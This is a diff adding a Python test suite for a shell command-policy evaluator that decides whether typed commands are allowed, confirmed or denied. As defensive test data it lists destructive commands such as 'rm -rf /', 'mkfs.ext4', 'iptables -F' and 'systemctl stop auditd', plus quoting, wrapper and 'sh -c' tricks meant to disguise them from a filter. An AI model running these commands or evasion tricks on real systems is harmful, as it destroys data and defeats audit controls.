+        {"name": "d", "action": "deny", "commands": ["d"]},
+    )
+    cases = [("a; x", "alert"), ("x; a; c", "confirm"), ("c; d; a", "deny"), ("x; y", "allow")]
+    for line, expected in cases:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+def test_on_a_tie_the_first_command_decides() -> None:
+    policy = small_policy(
+        {"name": "one", "action": "confirm", "commands": ["one"]},
+        {"name": "two", "action": "confirm", "commands": ["two"]},
+    )
+    verdict = evaluate(policy, "two; one", role="r", target="t")
+    assert (verdict.rule, verdict.command) == ("two", "two")
+
+
+def test_substrings_are_not_commands() -> None:
+    # jumpserver#14351, #10840: `set` in `GET`, `init` in `vim init.py`.
+    policy = small_policy(
+        {"name": "no-set", "action": "deny", "commands": ["set"]},
+        {"name": "no-init", "action": "deny", "commands": ["init"]},
+        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
+    )
+    for line in ("curl -X GET http://x/settings", "vim init.py", "./init.sh", "cat /etc/init.d/x",
+                 "echo rm", "farm --rm", "git rm-branch", "reset"):
+        assert evaluate(policy, line, role="r", target="t").action == "allow", line
+    assert evaluate(policy, "set -x", role="r", target="t").action == "deny"
+
+
+def test_globs_match_command_names() -> None:
+    policy = small_policy({"name": "mkfs", "action": "deny", "commands": ["mkfs.*", "wipe?s"]})
+    for line, expected in [("mkfs.ext4 /dev/x", "deny"), ("wipefs -a x", "deny"),
+                           ("mkfs /dev/x", "allow"), ("xmkfs.ext4", "allow")]:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+def test_flags_split_combined_short_flags_and_strip_long_values() -> None:
+    policy = small_policy(
+        {"name": "rf", "action": "deny", "commands": ["rm"], "flags": ["-r", "-f"]},
+        {"name": "force", "action": "confirm", "commands": ["git"], "flags": ["--force"]},
+    )
+    cases = [
+        ("rm -rf x", "deny"), ("rm -fr x", "deny"), ("rm -r -f x", "deny"), ("rm -vrfi x", "deny"),
+        ("rm -r x", "allow"), ("rm -- -rf", "allow"), ("rm ./-rf", "allow"),
+        ("git push --force", "confirm"), ("git push --force=yes", "confirm"),
+        ("git push --force-with-lease", "allow"),
+    ]
+    for line, expected in cases:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+def test_args_regex_is_searched_in_arguments_joined_by_single_spaces() -> None:
+    policy = small_policy(
+        {"name": "stop", "action": "deny", "commands": ["systemctl"], "args": "^stop auditd$"}
+    )
+    cases = [("systemctl   stop\tauditd", "deny"), ("systemctl 'stop' auditd", "deny"),
+             ("systemctl stop auditd2", "allow"), ("stop auditd", "allow")]
+    for line, expected in cases:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+def test_roles_and_targets_narrow_a_rule() -> None:
+    policy = small_policy(
+        {"name": "vendors", "action": "deny", "commands": ["ls"], "roles": ["vendor"]},
+        {"name": "dbs", "action": "confirm", "commands": ["ls"], "targets": ["db*", "pg-?"]},
+    )
+    assert evaluate(policy, "ls", role="vendor", target="web").rule == "vendors"
+    assert evaluate(policy, "ls", role="engineer", target="db01").rule == "dbs"
+    assert evaluate(policy, "ls", role="engineer", target="pg-1").rule == "dbs"
+    assert evaluate(policy, "ls", role="engineer", target="web").rule == "defaults.unmatched"
+
+
+def test_run_time_arguments_get_the_weaker_of_rule_and_unknown() -> None:
+    policy = small_policy(
+        {"name": "no-root", "action": "deny", "commands": ["rm"], "args": "(^|\\s)/(\\s|$)"},
+        {"name": "flag", "action": "alert", "commands": ["chmod"], "args": "u\\+s"},
+        unknown="confirm",
+    )
+    cases = [
+        ('rm -rf "$d"', "confirm", "no-root"),
+        ("rm -rf / $d", "deny", "no-root"),
+        ("rm -rf /tmp/x", "allow", "defaults.unmatched"),
+        ("chmod $mode f", "alert", "flag"),
+        ("xargs rm", "confirm", "no-root"),
+    ]
+    for line, expected, rule in cases:
+        verdict = evaluate(policy, line, role="r", target="t")
+        assert (verdict.action, verdict.rule) == (expected, rule), line
+
+
+def test_an_allow_rule_with_args_does_not_carve_out_run_time_arguments() -> None:
+    policy = small_policy(
+        {"name": "tmp-ok", "action": "allow", "commands": ["rm"], "args": "^/tmp/"},
+        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
+    )
+    assert evaluate(policy, "rm /tmp/x", role="r", target="t").action == "allow"
+    assert evaluate(policy, "rm /tmp/x $more", role="r", target="t").action == "deny"
+
+
+def test_defaults_decide_unmatched_and_unknown_commands() -> None:
+    policy = small_policy(unmatched="deny", unknown="alert")
+    verdict = evaluate(policy, "ls", role="r", target="t")
+    assert (verdict.action, verdict.rule, verdict.command) == ("deny", "defaults.unmatched", "ls")
+    verdict = evaluate(policy, "$x", role="r", target="t")
+    assert (verdict.action, verdict.rule) == ("alert", "defaults.unknown")
+
+
+def test_pseudo_commands_can_be_named_by_rules() -> None:
+    policy = small_policy(
+        {"name": "no-etc-writes", "action": "deny", "commands": [">"], "args": "^/etc/"},
+        {"name": "no-ld-preload", "action": "deny", "commands": ["LD_PRELOAD="]},
+    )
+    for line, expected in [("echo x >> /etc/hosts", "deny"), ("echo x > /tmp/y", "allow"),
+                           ("export LD_PRELOAD=/tmp/x.so", "deny"), ("LD_PRELOAD=x", "deny")]:
+        assert evaluate(policy, line, role="r", target="t").action == expected, line
+
+
+def test_verdict_reports_the_deciding_command_and_one_line_message() -> None:
+    policy = small_policy(
+        {"name": "no-reboot", "action": "confirm", "commands": ["reboot"],
+         "message": "Reboots need a supervisor."},
+        {"name": "quiet", "action": "deny", "commands": ["halt"]},
+    )
+    verdict = evaluate(policy, "uptime; sudo reboot", role="r", target="t")
+    assert verdict.action == "confirm"
+    assert verdict.rule == "no-reboot"
+    assert verdict.message == "Reboots need a supervisor."
+    assert verdict.command == "sudo reboot"
+    assert [c.name for c in verdict.commands] == ["uptime", "reboot"]
+    verdict = evaluate(policy, "halt", role="r", target="t")
+    assert "quiet" in verdict.message and "\n" not in verdict.message
+    verdict = evaluate(policy, "x=1\n$x\nmore", role="r", target="t")
+    assert verdict.rule == "defaults.unknown" and "\n" not in verdict.message
+
+
+def test_allow_verdicts_name_no_command() -> None:
+    policy = small_policy({"name": "ls-ok", "action": "allow", "commands": ["ls"]})
+    assert evaluate(policy, "ls", role="r", target="t") == evaluate(
+        policy, "ls", role="r", target="t"
+    )
+    verdict = evaluate(policy, "ls", role="r", target="t")
+    assert (verdict.action, verdict.rule, verdict.command, verdict.message) == (
+        "allow", "ls-ok", "", ""
+    )
+    empty = evaluate(policy, "  # nothing", role="r", target="t")
+    assert (empty.action, empty.rule, empty.commands) == ("allow", None, ())
+
+
+def test_uncertain_verdict_uses_the_uncertain_default() -> None:
+    verdict = uncertain_verdict(small_policy(uncertain="confirm"), "line wrapped\nby the app")
+    assert (verdict.action, verdict.rule, verdict.command, verdict.commands) == (
+        "confirm", "defaults.uncertain", "", ()
+    )
+    assert "line wrapped by the app" in verdict.message
+
+
+def test_rules_can_be_built_directly() -> None:
+    policy = Policy(Defaults(), (Rule("r", "deny", ("rm",), flags=("-r",)),))
+    assert evaluate(policy, "rm -r x", role="r", target="t").action == "deny"
+    with pytest.raises(ValueError):
+        Rule("bad", "block", ("rm",))
+    with pytest.raises(ValueError):
+        Defaults(unknown="maybe")
+
+
+# ---------------------------------------------------------------------------------------------
+# Loading policy.toml
+
+VALID_RULE = {"name": "r", "action": "deny", "commands": ["rm"]}
+
+BAD_POLICIES = [
+    ({"default": {}}, "default", "unknown key"),
+    ({"defaults": []}, "defaults", "must be a table"),
+    ({"defaults": {"unknwon": "allow"}}, "defaults.unknwon", "unknown key"),
+    ({"defaults": {"unknown": "ask"}}, "defaults.unknown", "must be one of allow, alert, confirm"),
+    ({"defaults": {"confirm_timeout": "2 weeks"}}, "defaults.confirm_timeout", "duration"),
+    ({"defaults": {"confirm_timeout": "0s"}}, "defaults.confirm_timeout", "longer than zero"),
+    ({"defaults": {"confirm_timeout": True}}, "defaults.confirm_timeout", "duration"),
+    ({"rules": {"name": "r"}}, "rules", "array of tables"),
+    ({"rules": ["rm"]}, "rules[1]", "must be a table"),
+    ({"rules": [{**VALID_RULE, "acton": "deny"}]}, "rules[1].acton", "unknown key"),
+    ({"rules": [{"action": "deny", "commands": ["rm"]}]}, "rules[1].name", "is required"),
+    ({"rules": [{"name": "r", "commands": ["rm"]}]}, "rules[1].action", "is required"),
+    ({"rules": [{"name": "r", "action": "deny"}]}, "rules[1].commands", "is required"),
+    ({"rules": [VALID_RULE, {**VALID_RULE, "action": "block"}]}, "rules[2].action",
+     "must be one of allow, alert, confirm, deny"),
+    ({"rules": [{**VALID_RULE, "name": 3}]}, "rules[1].name", "must be a string"),
+    ({"rules": [{**VALID_RULE, "name": " "}]}, "rules[1].name", "must not be empty"),
+    ({"rules": [{**VALID_RULE, "commands": "rm"}]}, "rules[1].commands", "list of strings"),
+    ({"rules": [{**VALID_RULE, "commands": []}]}, "rules[1].commands", "list of strings"),
+    ({"rules": [{**VALID_RULE, "commands": ["rm", ""]}]}, "rules[1].commands[1]", "non-empty"),
+    ({"rules": [{**VALID_RULE, "commands": ["/bin/rm"]}]}, "rules[1].commands[0]", "path"),
+    ({"rules": [{**VALID_RULE, "flags": ["-rf"]}]}, "rules[1].flags[0]", "not one flag"),
+    ({"rules": [{**VALID_RULE, "flags": ["--force=yes"]}]}, "rules[1].flags[0]", "not one flag"),
+    ({"rules": [{**VALID_RULE, "flags": ["r"]}]}, "rules[1].flags[0]", "not one flag"),
+    ({"rules": [{**VALID_RULE, "args": "(unclosed"}]}, "rules[1].args", "regular expression"),
+    ({"rules": [{**VALID_RULE, "args": 5}]}, "rules[1].args", "must be a string"),
+    ({"rules": [{**VALID_RULE, "roles": "admin"}]}, "rules[1].roles", "list of strings"),
+    ({"rules": [{**VALID_RULE, "targets": [1]}]}, "rules[1].targets[0]", "non-empty string"),
+    ({"rules": [{**VALID_RULE, "message": "two\nlines"}]}, "rules[1].message", "one line"),
+    ({"rules": [VALID_RULE, VALID_RULE]}, "rules[2].name", "duplicate rule name 'r'"),
+]
+
+
+@pytest.mark.parametrize(("data", "key", "problem"), BAD_POLICIES)
+def test_bad_policies_are_refused_naming_the_key(data: dict, key: str, problem: str) -> None:
+    with pytest.raises(PolicyError) as raised:
+        policy_from_dict(data)
+    assert raised.value.key == key
+    assert problem in raised.value.problem
+    assert str(raised.value).startswith(f"{key}: ")
+
+
+@pytest.mark.parametrize(
+    ("value", "seconds"),
+    [("120s", 120.0), ("2m", 120.0), ("1h", 3600.0), ("1m30s", 90.0), (45, 45.0), (1.5, 1.5),
+     ("90", 90.0), (" 10s ", 10.0)],
+)
+def test_confirm_timeout_durations(value: object, seconds: float) -> None:
+    policy = policy_from_dict({"defaults": {"confirm_timeout": value}})
+    assert policy.defaults.confirm_timeout == seconds
+
+
+def test_a_minimal_policy_uses_the_documented_defaults() -> None:
+    policy = policy_from_dict({})
+    assert policy.defaults == Defaults("allow", "confirm", "deny", 120.0)
+    assert policy.rules == ()
+
+
+def test_default_policy_file_rules_are_all_reachable(default_policy: Policy) -> None:
+    # Each rule has a one-line message or is an allow, and its name is unique.
+    assert len({rule.name for rule in default_policy.rules}) == len(default_policy.rules)
+    for rule in default_policy.rules:
+        assert rule.action in ACTIONS
+        assert rule.message or rule.action == "allow", rule.name
+
+
+# ---------------------------------------------------------------------------------------------
+# Continuation lines
+
+COMPLETENESS = [
+    ("ls", True), ("", True), ("ls -la # it's fine", True), ("fi", True), ("echo )", True),
+    ("ls;", True), ("ls &", True), ("echo a \\\\", True), ("cat <<", True),
+    ('echo "abc', False), ("echo 'abc", False), ("echo $'a", False), ("echo `ls", False),
+    ("ls &&", False), ("ls ||", False), ("ls |", False), ("ls |  # more", False),
+    ("ls 2>&1 |", False),
+    ("echo a \\", False),
+    ("if true; then", False), ("if true; then ls; fi", True),
+    ("case x in", False), ("case x in a) ls;; esac", True), ("case x in (a) ls;; esac", True),
+    ("case x in a) echo 'esac';;", False), ("for i in 1; do", False), ("for x in a b c", False),
+    ("for i in 1; do ls; done", True), ("while true", False), ("until false; do", False),
+    ("select x in a; do", False), ("( ls", False), ("( ls )", True), ("{ ls", False),
+    ("{ ls; }", True), ("{ echo }", False), ("f() {", False), ("f() { ls; }", True),
+    ("function f {", False), ("echo $(ls", False), ("echo $(ls)", True), ("echo ${x", False),
+    ("echo ${x}", True), ('echo ${x:-"a}"}', True), ("[[ -f x", False), ("[[ -f x ]]", True),
+    ("echo $((1+", False), ("echo $(( (1+2) * 3 ))", True), ("((i++", False), ("((i++))", True),
+    ("x=(1 2", False), ("x=(1 2)", True), ('echo "$(echo ")"', False), ('echo "$(echo ")")"', True),
+    ("x=$(case a in a) echo;; esac)", True), ("x=$(case a in a) echo;;", False),
+    ("cat <<EOF", False), ("cat <<EOF\nfoo", False), ("cat <<EOF\nfoo\nEOF", True),
+    ("cat <<-EOF\n\tfoo\n\tEOF", True), ("cat <<'EOF'\n$(x\nEOF", True),
+    ("cat <<EOF | sh\nls\nEOF", True), ("cat <<EOF; ls\nx", False), ("cat <<EOF; ls\nx\nEOF", True),
+    ("if [ -f x ]\nthen\nls\nfi", True), ("if [ -f x ]\nthen", False), ("echo a &&\necho b", True),
+    ("echo esac", True), ("echo done; for i in a", False), ("echo if", True), ("echo {", True),
+]
+
+
+@pytest.mark.parametrize(("line", "complete"), COMPLETENESS)
+def test_is_complete(line: str, complete: bool) -> None:
+    assert is_complete(line) is complete
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+def test_is_complete_agrees_with_bash(tmp_path: Path) -> None:
+    script = tmp_path / "line.sh"
+    disagreements = []
+    for line, _ in COMPLETENESS:
+        if line.endswith("\\") and not line.endswith("\\\\"):
+            continue  # bash -n reads a file, where a final backslash is not a continuation
+        script.write_text(line)
+        checked = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
+        waits = any(
+            sign in checked.stderr
+            for sign in ("unexpected end of file", "unexpected EOF", "delimited by end-of-file")
+        )
+        if is_complete(line) == waits:
+            disagreements.append((line, checked.stderr))
+    assert disagreements == []
+
+
+# ---------------------------------------------------------------------------------------------
+# Properties
+
+DENIED_CORES = [
+    ["rm", "-rf", "/"],
+    ["rm", "-r", "-f", "/etc"],
+    ["mkfs.ext4", "/dev/sdb1"],
+    ["iptables", "-F"],
+    ["userdel", "bob"],
+    ["systemctl", "stop", "auditd"],
+]
+WRAPPERS = [
+    ["sudo"], ["sudo", "-u", "root"], ["sudo", "-n", "--"], ["doas"], ["env"], ["env", "A=1"],
+    ["env", "-i"], ["nice", "-n", "5"], ["nohup"], ["timeout", "5"], ["timeout", "-k", "1", "5"],
+    ["time"], ["command"], ["exec"], ["stdbuf", "-o0"], ["setsid"], ["ionice", "-c3"],
+    ["chrt", "-r", "1"], ["taskset", "1"], ["flock", "/tmp/l"], ["busybox"], ["chroot", "/"],
+    ["xargs", "-0"], ["unbuffer"], ["builtin"],
+]
+PATH_PREFIXES = ["", "/bin/", "/usr/bin/", "./", "../../usr/bin/", "//usr/local/bin/"]
+
+
+def quote_word(word: str, style: int) -> str:
+    if style == 1:
+        return "'" + word + "'"
+    if style == 2:
+        return '"' + word + '"'
+    if style == 3:
+        return "".join("\\" + ch for ch in word)
+    if style == 4:
+        return "$'" + "".join(f"\\x{ord(ch):02x}" for ch in word) + "'"
+    if style == 5 and len(word) > 1:
+        return f'"{word[0]}"\'{word[1:]}\''
+    return word
+
+
+CODE_WRAPS = [
+    lambda code: f"sh -c {shlex.quote(code)}",
+    lambda code: f"bash -c {shlex.quote(code)}",
+    lambda code: f"eval {shlex.quote(code)}",
+    lambda code: f"su -c {shlex.quote(code)}",
+    lambda code: f"sudo -s {shlex.quote(code)}",
+    lambda code: f"watch {shlex.quote(code)}",
+    lambda code: f"bash <<< {shlex.quote(code)}",
+    lambda code: f"echo $( {code} )",
+    lambda code: f"true && {code}",
+    lambda code: f"ls; {code}",
+    lambda code: f"( {code} )",
+    lambda code: f"if true; then {code}; fi",
+    lambda code: f"{code} 2>/dev/null",
+]
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    core=st.sampled_from(DENIED_CORES),
+    prefix=st.sampled_from(PATH_PREFIXES),
+    styles=st.lists(st.integers(0, 5), min_size=4, max_size=4),
+    wrappers=st.lists(st.sampled_from(WRAPPERS), max_size=3),
+    code_wraps=st.lists(st.sampled_from(CODE_WRAPS), max_size=2),
+)
+def test_disguised_denied_commands_stay_denied(
+    default_policy: Policy,
+    core: list[str],
+    prefix: str,
+    styles: list[int],
+    wrappers: list[list[str]],
+    code_wraps: list,
+) -> None:
+    words = [prefix + core[0], *core[1:]]
+    quoted = [quote_word(word, style) for word, style in zip(words, styles + [0] * 4, strict=False)]
+    line = " ".join([*(w for wrapper in wrappers for w in wrapper), *quoted])
+    for wrap in code_wraps:
+        line = wrap(line)
+    assert action(default_policy, line) == "deny", (line, parse_commands(line))
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text())
+def test_parsing_never_raises_on_any_text(line: str) -> None:
+    commands = parse_commands(line)
+    assert not any("internal" in c.unknown for c in commands)
+    is_complete(line)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("rm -f/$'\"\\`(){};|&<>#!*?[]=\n\tabcx0$EOF"))))
+def test_evaluation_never_raises_on_shell_like_text(line: str) -> None:
+    policy = small_policy({"name": "r", "action": "deny", "commands": ["rm"], "args": "x"})
+    verdict = evaluate(policy, line, role="r", target="t")
+    assert verdict.action in ACTIONS
+    assert "fault" not in verdict.message
+
+
+PLAIN_WORDS = [
+    "ls", "rm", "-rf", "/", "sudo", "-u", "root", "env", "A=1", "x=1", "nice", "-n", "5", "sh",
+    "bash", "-c", "timeout", "xargs", "find", "-exec", "+", "export", "local", "unset", "if",
+    "then", "fi", "time", "coproc", "in", "do", "busybox", "command", "-v", "su", "eval", "~/x",
+    "a.b", "--", "--force", "%1", ":", ".", "source", "watch", "trap", "alias", "a=b", "-",
+]
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    commands=st.lists(st.lists(st.sampled_from(PLAIN_WORDS), min_size=1, max_size=5),
+                      min_size=1, max_size=4),
+    operators=st.lists(st.sampled_from([";", "&&", "||", "|", "&", " | ", "\t;  "]),
+                       min_size=4, max_size=4),
+    ending=st.sampled_from(["", ";", " &", "  "]),
+)
+def test_plain_lines_parse_the_same_with_or_without_a_trailing_comment(
+    commands: list[list[str]], operators: list[str], ending: str
+) -> None:
+    # Lines of plain words take a shortcut around the parser; a comment forces the full path.
+    line = " ".join(commands[0])
+    for operator, command in zip(operators, commands[1:], strict=False):
+        line += f" {operator} " + " ".join(command)
+    line += ending
+
+    def seen(text: str) -> list:
+        # A parse error reports the whole line, comment included: compare all but that text.
+        return [(c.name, c.argv, c.unknown, c.dynamic_args, c.wrappers,
+                 "" if c.unknown == "parse error" else c.text) for c in parse_commands(text)]
+
+    parsed = seen(line + " # forces the parser")
+    if not any(unknown == "parse error" for _, _, unknown, *_ in parsed):
+        # (tree-sitter misreads a few plain lines, `- a=b`; the parser path then fails closed)
+        assert seen(line) == parsed
